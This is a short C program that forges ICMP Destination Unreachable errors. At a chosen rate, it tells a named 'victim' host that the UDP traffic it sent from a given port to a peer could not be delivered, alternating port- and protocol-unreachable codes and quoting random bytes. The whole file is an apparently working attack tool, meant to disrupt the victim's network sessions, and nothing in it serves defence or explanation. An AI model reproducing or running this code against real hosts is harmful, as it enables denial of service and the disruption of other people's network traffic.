// Forged ICMP errors: forged_icmp VICTIM PEER PORT RATE SECONDS. Tells the victim, so many times a second, that what
// its port sent to the same port of the peer could not be delivered, and quotes random bytes: every other time for want
// of the port, otherwise for want of the protocol, which is an error of another kind. IPv4; needs CAP_NET_RAW.

#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { QUOTED_BYTES = 64 };

struct error {
    struct icmphdr icmp;
    struct iphdr ip;
    struct udphdr udp;
    unsigned char quote[QUOTED_BYTES];
} __attribute__((packed));

static unsigned short checksum(const void *bytes, int count) {
    const unsigned char *byte = bytes;
    unsigned sum = 0;
    for (int i = 0; i < count; i += 2) sum += byte[i] | (unsigned)byte[i + 1] << 8;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (unsigned short)~sum;
}

int main(int count, char **arguments) {
    if (count != 6) return 64;
    const int port = atoi(arguments[3]), rate = atoi(arguments[4]), seconds = atoi(arguments[5]);
    struct sockaddr_in victim = {.sin_family = AF_INET};
    struct error error = {.icmp = {.type = ICMP_DEST_UNREACH}};
    inet_pton(AF_INET, arguments[1], &victim.sin_addr);
    error.ip.version = 4;
    error.ip.ihl = 5;
    error.ip.ttl = 64;
    error.ip.protocol = IPPROTO_UDP;
    error.ip.tot_len = htons(sizeof error - sizeof error.icmp);
    error.ip.saddr = victim.sin_addr.s_addr;
    inet_pton(AF_INET, arguments[2], &error.ip.daddr);
    error.ip.check = checksum(&error.ip, sizeof error.ip);
    error.udp.source = error.udp.dest = htons((unsigned short)port);
    error.udp.len = htons(sizeof error.udp + QUOTED_BYTES);
    int file = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    if (file < 0) {
        perror("socket");
        return 1;
    }
    for (long sent = 0; sent < (long)rate * seconds; sent++) {
        for (int i = 0; i < QUOTED_BYTES; i++) error.quote[i] = (unsigned char)rand();
        error.icmp.code = sent % 2 ? ICMP_PORT_UNREACH : ICMP_PROT_UNREACH;
        // As sealed frames of control begin.
        error.quote[0] = 0x80;
        error.icmp.checksum = 0;
        error.icmp.checksum = checksum(&error, sizeof error);
        if (sendto(file, &error, sizeof error, 0, (struct sockaddr *)&victim, sizeof victim) < 0) perror("sendto");
        nanosleep(&(struct timespec){.tv_nsec = 1000000000L / rate}, NULL);
    }
    return 0;
}
